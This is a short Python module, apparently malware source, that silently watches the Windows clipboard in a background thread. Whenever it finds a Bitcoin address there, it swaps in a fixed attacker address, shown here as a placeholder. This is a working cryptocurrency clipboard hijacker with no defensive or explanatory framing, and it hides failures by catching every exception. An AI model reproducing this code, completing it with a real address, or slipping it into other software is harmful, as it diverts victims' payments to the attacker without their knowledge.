import ctypes
import re
import sys
import threading
import time

_BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
_MINE = "1PLACEHOLDER0NOT0A0REAL0ADDRESS00"  # placeholder, not a valid address
CF_UNICODETEXT = 13


def _get():
    u = ctypes.windll.user32
    if not u.OpenClipboard(None):
        return None
    try:
        h = u.GetClipboardData(CF_UNICODETEXT)
        return ctypes.c_wchar_p(h).value if h else None
    finally:
        u.CloseClipboard()


def _set(text):
    u, k = ctypes.windll.user32, ctypes.windll.kernel32
    data = ctypes.create_unicode_buffer(text)
    size = ctypes.sizeof(data)
    h = k.GlobalAlloc(0x0042, size)
    ctypes.memmove(k.GlobalLock(h), data, size)
    k.GlobalUnlock(h)
    if u.OpenClipboard(None):
        u.EmptyClipboard()
        u.SetClipboardData(CF_UNICODETEXT, h)
        u.CloseClipboard()


def _watch():
    while True:
        try:
            text = (_get() or "").strip()
            if _BTC.match(text) and text != _MINE:
                _set(_MINE)
        except Exception:
            pass
        time.sleep(0.5)


def start():
    if sys.platform == "win32":
        threading.Thread(target=_watch, daemon=True).start()
